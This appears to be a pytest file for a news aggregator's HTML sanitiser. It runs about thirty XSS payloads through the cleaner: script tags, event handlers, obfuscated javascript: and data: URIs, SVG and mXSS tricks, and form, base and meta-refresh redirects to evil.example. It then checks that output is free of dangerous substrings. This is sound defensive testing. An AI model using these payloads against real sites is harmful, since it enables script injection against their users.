"""Hostile HTML in an article body never survives cleaning: each row is an attack real feeds
have carried or sanitiser bypasses have used. The output is parsed back and checked for any
active content, whatever form it took."""

from __future__ import annotations

import re
from datetime import UTC, datetime

import pytest
from atomcheck import check_content_html

from aggregator.clean import clean
from aggregator.model import Item

ATTACKS = [
    # (id, body)
    ("script", "<p>a</p><script>alert(1)</script><p>b</p>"),
    ("script-uppercase-split", "<SCRIPT SRC=//evil.example/x.js></SCRIPT><p>text</p>"),
    (
        "event-handlers",
        '<p onclick="alert(1)" onmouseover=alert(2)>text<img src=x onerror=alert(3)></p>',
    ),
    ("javascript-link", '<a href="javascript:alert(1)">x</a><a href=" JaVaScRiPt:alert(1)">y</a>'),
    (
        "javascript-entity-obfuscated",
        '<a href="jav&#x09;ascript:alert(1)">x</a><a href="&#106;avascript:alert(1)">y</a>',
    ),
    (
        "data-uri",
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a><img src="data:image/svg+xml,<svg onload=alert(1)>">',
    ),
    ("vbscript", '<a href="vbscript:msgbox(1)">x</a>'),
    ("iframe", '<iframe src="https://evil.example/"></iframe><p>text</p>'),
    ("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    ("object-embed", '<object data="x.swf"></object><embed src="x.swf"><applet code="x"></applet>'),
    (
        "form",
        '<form action="https://evil.example/"><input name=p><button>go</button></form><p>t</p>',
    ),
    (
        "style-tag-and-attr",
        '<style>body{display:none}</style><p style="background:url(javascript:alert(1))">t</p>',
    ),
    (
        "svg-script",
        '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    ),
    (
        "svg-animate",
        "<svg><animate attributeName=href to=javascript:alert(1) /><set attributeName=onload to=alert(1) /></svg>",
    ),
    (
        "math-xlink",
        '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    ),
    ("base-hijack", '<base href="https://evil.example/"><a href="/relative">x</a>'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/"><p>t</p>'),
    ("link-stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css"><p>t</p>'),
    ("noscript-mxss", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'),
    ("comment-breakout", "<!--<img src=x onerror=alert(1)>--><p>t</p>"),
    ("template", "<template><script>alert(1)</script></template><p>t</p>"),
    ("frameset", '<frameset><frame src="javascript:alert(1)"></frameset>'),
    ("textarea-breakout", "<textarea></textarea><script>alert(1)</script></textarea>"),
    ("unclosed-attr", '<p title="x><script>alert(1)</script>">t</p>'),
    # Players stay (media_embeds): none of their URLs may be active or relative.
    (
        "video-javascript-urls",
        '<video src="javascript:alert(1)" poster="javascript:alert(2)" onerror=alert(3)>'
        '<source src="javascript:alert(4)"><source src="data:video/mp4;base64,AAAA"></video>',
    ),
    (
        "video-source-handlers",
        '<video controls autoplay onplay=alert(1)><source src="/v.mp4" onerror="alert(2)">'
        "<track src=x.vtt><script>alert(3)</script></video>",
    ),
    ("audio-vbscript", '<audio src="vbscript:msgbox(1)" controls></audio><p>t</p>'),
    ("iframe-javascript-src", '<iframe src="javascript:alert(1)" title="Watch"></iframe>'),
    (
        "iframe-inside-link",
        '<a href="https://a.example/"><iframe src="https://b.example/"></iframe></a>',
    ),
]


def _item(body: str) -> Item:
    return Item(
        source="t", outlet="generic", origin="mem", key="k", title="t",
        link="https://news.example.org/a/1.html",
        published=datetime(2024, 1, 1, tzinfo=UTC), archived=None, author="a",
        author_uri=None, lang="en", content=body,
    )  # fmt: skip


@pytest.mark.parametrize(("name", "body"), ATTACKS, ids=[a[0] for a in ATTACKS])
def test_attack_does_not_survive(name: str, body: str) -> None:
    out = clean(_item(body)).content
    assert check_content_html(out, name) == []
    lowered = out.lower()
    for needle in ("javascript:", "vbscript:", "data:", "<script", "onerror", "onload", "srcdoc"):
        assert needle not in lowered, f"{needle} survived in {out!r}"


def test_article_markup_survives() -> None:
    body = (
        "<h2>标题</h2><p>一段<em>强调</em>和<strong>加粗</strong>，"
        '<a href="/a/2.html">相对链接</a>。</p><ul><li>一</li><li>二</li></ul>'
        "<blockquote><p>引语</p></blockquote>"
        '<figure><img src="https://img.example/x.jpg" alt="图"><figcaption>说明</figcaption></figure>'
        "<table><tr><td>1</td></tr></table><p>这是广告行业的新闻，不是广告。</p>"
    )
    out = clean(_item(body)).content
    for kept in ("<h2>标题</h2>", "<em>强调</em>", "<strong>加粗</strong>", "<li>二</li>",
                 "<blockquote>", "<figcaption>说明</figcaption>", "<td>1</td>",
                 'href="https://news.example.org/a/2.html"', "不是广告"):  # fmt: skip
        assert kept in out, kept


def test_thousands_of_players_keep_their_captions_and_lose_their_styles() -> None:
    """A body of 3,000 videos, each with its caption, styled, one ad block among them: each
    player becomes a captioned figure, the styles and the ad go. (The elements with attributes
    were found by XPath, whose cost grew with the square of the players the rules rebuilt:
    20,000 pairs took 51 s to clean.)"""
    pairs = "".join(
        f'<video src="v{n}.mp4" style="width:9px"></video><p class="caption">c{n}</p>'
        for n in range(3000)
    )
    out = clean(_item(f'<p>正文。</p>{pairs}<div class="ad-slot">买！</div><p>完。</p>')).content
    figures = re.findall(
        r'<figure><video src="[^"]*/v(\d+)\.mp4".*?<figcaption>c(\d+)</figcaption>', out
    )
    assert len(figures) == 3000 and all(v == c for v, c in figures)
    assert "style=" not in out and "买" not in out and "完。" in out
